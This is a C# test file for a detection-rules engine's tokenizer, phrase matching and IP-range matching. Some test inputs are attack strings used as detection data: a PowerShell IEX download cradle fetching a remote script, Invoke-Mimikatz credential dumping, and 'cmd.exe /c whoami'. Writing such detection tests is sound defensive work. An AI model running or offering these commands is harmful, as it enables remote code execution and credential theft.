using Rules.Language.Analysis;
using Rules.Runtime.Matching;

namespace Rules.Tests.Kql;

public class TextAnalysisTests
{
    private static List<string> RuntimeTokens(string text)
    {
        var tokens = new List<string>();
        var position = 0;
        while (TextAnalysis.NextToken(text, ref position, out var start, out var length))
        {
            tokens.Add(new string(text.AsSpan(start, length)).ToLowerInvariant());
        }

        return tokens;
    }

    public static readonly TheoryData<string, string[]> KnownTokens = new()
    {
        // The example of Elasticsearch's standard analyzer reference page.
        { "The 2 QUICK Brown-Foxes jumped over the lazy dog's bone.", new[] { "the", "2", "quick", "brown", "foxes", "jumped", "over", "the", "lazy", "dog's", "bone" } },
        { "C:\\Windows\\System32\\cmd.exe /c whoami", new[] { "c", "windows", "system32", "cmd.exe", "c", "whoami" } },
        { "Invoke-Mimikatz -DumpCreds", new[] { "invoke", "mimikatz", "dumpcreds" } },
        { "foo:bar foo: :bar", new[] { "foo:bar", "foo", "bar" } },
        { "1,000.50 and 3.14abc", new[] { "1,000.50", "and", "3.14abc" } },
        { "a_b __init__ ___ _x", new[] { "a_b", "__init__", "_x" } },
        { "x.y. end.", new[] { "x.y", "end" } },
        { "http://evil.com/a?b=c", new[] { "http", "evil.com", "a", "b", "c" } },
        { "Ünïcödé ÉTÉ", new[] { "ünïcödé", "été" } },
        { "日本語テキスト", new[] { "日", "本", "語", "テキスト" } },
        { "e\u0301t\u00e9", new[] { "e\u0301t\u00e9" } },
        { "192.168.1.1:443", new[] { "192.168.1.1", "443" } },
        { "", Array.Empty<string>() },
        { "--- !!! ...", Array.Empty<string>() },
    };

    [Theory]
    [MemberData(nameof(KnownTokens))]
    public void Both_tokenizers_cut_like_elasticsearch(string text, string[] expected)
    {
        Assert.Equal(expected, StandardAnalyzer.Analyze(text));
        Assert.Equal(expected, RuntimeTokens(text));
    }

    [Fact]
    public void Build_and_runtime_tokenizers_agree_on_random_text()
    {
        const string alphabet = "aZé9_ .,:;'’-\\/\u0301日テ\u0E01\u0E34€@#\t\n";
        var random = new Random(12345);
        for (var i = 0; i < 3000; i++)
        {
            var chars = new char[random.Next(0, 40)];
            for (var j = 0; j < chars.Length; j++)
            {
                chars[j] = alphabet[random.Next(alphabet.Length)];
            }

            var text = new string(chars);
            Assert.Equal(StandardAnalyzer.Analyze(text), RuntimeTokens(text));
        }
    }

    [Fact]
    public void Long_tokens_split_at_255_characters()
    {
        var text = new string('a', 600);
        var expected = new[] { new string('a', 255), new string('a', 255), new string('a', 90) };
        Assert.Equal(expected, StandardAnalyzer.Analyze(text));
        Assert.Equal(expected, RuntimeTokens(text));
    }

    [Fact]
    public void Contains_all_tokens_is_case_insensitive_and_order_free()
    {
        Assert.True(TextAnalysis.ContainsAllTokens("IEX (New-Object Net.WebClient)", new[] { "net.webclient", "iex" }));
        Assert.False(TextAnalysis.ContainsAllTokens("IEX (New-Object Net.WebClient)", new[] { "net", "iex" }));
        Assert.False(TextAnalysis.ContainsAllTokens(null, new[] { "a" }));
        Assert.False(TextAnalysis.ContainsAllTokens("a", Array.Empty<string>()));
        var many = Enumerable.Range(0, 70).Select(i => "w" + i).ToArray();
        Assert.True(TextAnalysis.ContainsAllTokens(string.Join(" ", many.Reverse()), many));
        Assert.False(TextAnalysis.ContainsAllTokens(string.Join(" ", many.Skip(1)), many));
    }

    [Fact]
    public void Contains_phrase_needs_consecutive_tokens_in_order()
    {
        string[] phrase = { "invoke", "mimikatz" };
        Assert.True(TextAnalysis.ContainsPhrase("x; Invoke-Mimikatz -y", phrase));
        Assert.True(TextAnalysis.ContainsPhrase("invoke invoke mimikatz", phrase));
        Assert.False(TextAnalysis.ContainsPhrase("Invoke x Mimikatz", phrase));
        Assert.False(TextAnalysis.ContainsPhrase("Mimikatz Invoke", phrase));
        Assert.False(TextAnalysis.ContainsPhrase("InvokeMimikatz", phrase));
    }

    [Fact]
    public void Token_wildcards_match_single_tokens()
    {
        Assert.True(TextAnalysis.AnyTokenMatchesWildcard("Start-Process Invoke-WebRequest", "invoke*"));
        Assert.True(TextAnalysis.AnyTokenMatchesWildcard("a WebRequest", "w?brequest"));
        Assert.False(TextAnalysis.AnyTokenMatchesWildcard("invoke webrequest", "invoke*web*"));
    }

    [Fact]
    public void Matching_does_not_allocate()
    {
        var text = "IEX (New-Object Net.WebClient).DownloadString('http://x/y.ps1'); Invoke-Mimikatz";
        string[] tokens = { "iex", "invoke" };
        string[] phrase = { "invoke", "mimikatz" };
        TextAnalysis.ContainsAllTokens(text, tokens);
        TextAnalysis.ContainsPhrase(text, phrase);
        TextAnalysis.AnyTokenMatchesWildcard(text, "down*");
        var before = GC.GetAllocatedBytesForCurrentThread();
        for (var i = 0; i < 100; i++)
        {
            TextAnalysis.ContainsAllTokens(text, tokens);
            TextAnalysis.ContainsPhrase(text, phrase);
            TextAnalysis.AnyTokenMatchesWildcard(text, "down*");
        }

        Assert.Equal(before, GC.GetAllocatedBytesForCurrentThread());
    }
}

public class IpMatchingTests
{
    [Theory]
    [InlineData("10.0.0.0/8", "10.255.1.2", true)]
    [InlineData("10.0.0.0/8", "11.0.0.1", false)]
    [InlineData("10.0.0.0/8", "::ffff:10.1.2.3", true)]
    [InlineData("192.168.1.7/32", "192.168.1.7", true)]
    [InlineData("192.168.1.7", "192.168.1.8", false)]
    [InlineData("0.0.0.0/0", "8.8.8.8", true)]
    [InlineData("0.0.0.0/0", "2001:db8::1", false)]
    [InlineData("::/0", "2001:db8::1", true)]
    [InlineData("fe80::/10", "FE80::1:2", true)]
    [InlineData("fe80::/10", "fec0::1", false)]
    [InlineData("2001:db8::/32", "2001:0db8:0000:0000:0000:0000:0000:0001", true)]
    [InlineData("::1/128", "0:0:0:0:0:0:0:1", true)]
    [InlineData("10.0.0.0/8", "not an ip", false)]
    [InlineData("10.0.0.0/8", "10.0.0", false)]
    [InlineData("10.0.0.0/8", "010.0.0.1", false)]
    [InlineData("10.0.0.0/8", "10.0.0.256", false)]
    [InlineData("10.0.0.0/8", null, false)]
    [InlineData("::ffff:0:0/96", "1.2.3.4", true)]
    [InlineData("1::/16", "1:2:3:4:5:6:7.8.9.10", true)]
    public void Ranges_hold_addresses(string range, string? address, bool expected) =>
        Assert.Equal(expected, IpRange.Parse(range).Contains(address));

    [Theory]
    [InlineData("1.2.3")]
    [InlineData("1.2.3.4/33")]
    [InlineData("1:2:3:4:5:6:7:8:9")]
    [InlineData("1::2::3")]
    [InlineData(":1::")]
    [InlineData("12345::")]
    [InlineData("1.2.3.4/")]
    public void Invalid_ranges_do_not_parse(string range) => Assert.False(IpRange.TryParse(range, out _));

    [Fact]
    public void Equality_compares_addresses()
    {
        Assert.True(IpMatching.Equals("::FFFF:10.0.0.1", "10.0.0.1"));
        Assert.True(IpMatching.Equals("2001:db8:0::1", "2001:DB8::0:1"));
        Assert.False(IpMatching.Equals("10.0.0.1", "10.0.0.2"));
        Assert.False(IpMatching.Equals(null, "10.0.0.2"));
    }

    [Fact]
    public void Build_time_canonical_ranges_parse_at_runtime_with_the_same_meaning()
    {
        foreach (var (literal, inside, outside) in new[]
                 {
                     ("10.1.2.3/8", "10.200.0.1", "11.0.0.1"),
                     ("2001:DB8::ff/32", "2001:db8:1::", "2001:db9::"),
                     ("::ffff:192.168.0.1/120", "192.168.0.77", "192.168.1.1"),
                     ("fe80:0:0:0:0:0:0:1", "fe80::1", "fe80::2"),
                 })
        {
            Assert.True(IpAddressText.TryNormalizeRange(literal, out var canonical), literal);
            var range = IpRange.Parse(canonical);
            Assert.True(range.Contains(inside), $"{canonical} should hold {inside}");
            Assert.False(range.Contains(outside), $"{canonical} should not hold {outside}");
        }
    }

    [Fact]
    public void Contains_does_not_allocate()
    {
        var range = IpRange.Parse("2001:db8::/32");
        var ranges = new[] { IpRange.Parse("10.0.0.0/8"), range };
        range.Contains("2001:db8::1");
        IpMatching.InAny("10.0.0.1", ranges);
        var before = GC.GetAllocatedBytesForCurrentThread();
        for (var i = 0; i < 100; i++)
        {
            range.Contains("2001:db8::1");
            IpMatching.InAny("10.0.0.1", ranges);
            IpMatching.Equals("::ffff:10.0.0.1", "10.0.0.1");
        }

        Assert.Equal(before, GC.GetAllocatedBytesForCurrentThread());
    }
}
